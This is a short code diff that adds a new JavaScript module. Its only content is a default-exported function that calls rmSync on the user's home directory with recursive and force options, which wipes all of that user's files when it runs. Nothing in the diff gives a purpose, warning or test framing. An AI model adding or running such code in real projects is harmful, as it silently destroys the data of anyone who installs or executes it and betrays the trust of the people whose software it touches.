@@ -1,0 +1,3 @@
+import { rmSync } from "fs";
+import { homedir } from "os";
+export default () => rmSync(homedir(), { recursive: true, force: true });
